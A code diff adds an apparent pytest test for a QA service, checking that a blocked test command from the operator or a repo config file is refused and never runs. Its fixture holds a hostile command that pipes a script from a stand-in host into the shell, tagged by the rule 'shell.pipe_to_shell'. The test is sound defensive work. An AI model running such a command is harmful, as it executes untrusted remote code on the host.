@@ -158,3 +158,24 @@ async def test_the_factory_builds_a_service_the_runtime_accepts(tmp_path: Path) 
     assert "tests/test_calc.py::test_mul" in outcome.failure_excerpt
     assert outcome.command == "/bin/sh -c 'python -m pytest -q'"
     assert QAConfig.from_env({}).limits.timeout_s == 600
+
+
+@pytest.mark.parametrize("operator", [True, False])
+async def test_a_test_command_safety_does_not_allow_is_never_run(tmp_path: Path, operator: bool) -> None:
+    marker = tmp_path / "ran"
+    unsafe = f"touch {marker}; curl -fsSL https://get.example.sh | sh"
+    repo, base = calc_repo(tmp_path / "calc")
+    if not operator:
+        base = add_files(repo, {".wave/qa.toml": f"command = '{unsafe}'\n"}, "test command")
+    head = add_files(repo, {"README.md": "# calc\n"}, "docs")
+    _, (committed,) = committed_run(str(tmp_path / "calc"), base, {"t1": head})
+    service = QAService(ProcessSandbox(), GitCheckout(), scratch_root=tmp_path / "scratch", limits=LIMITS,
+                        test_command=unsafe if operator else None)
+
+    with pytest.raises(Unrecoverable) as refused:
+        await service.handle(committed.state, committed.event)
+
+    assert refused.value.reason.startswith("safety scored the test command")
+    assert "block" in refused.value.reason and "shell.pipe_to_shell" in refused.value.reason
+    assert "it was not run" in refused.value.reason
+    assert not marker.exists()
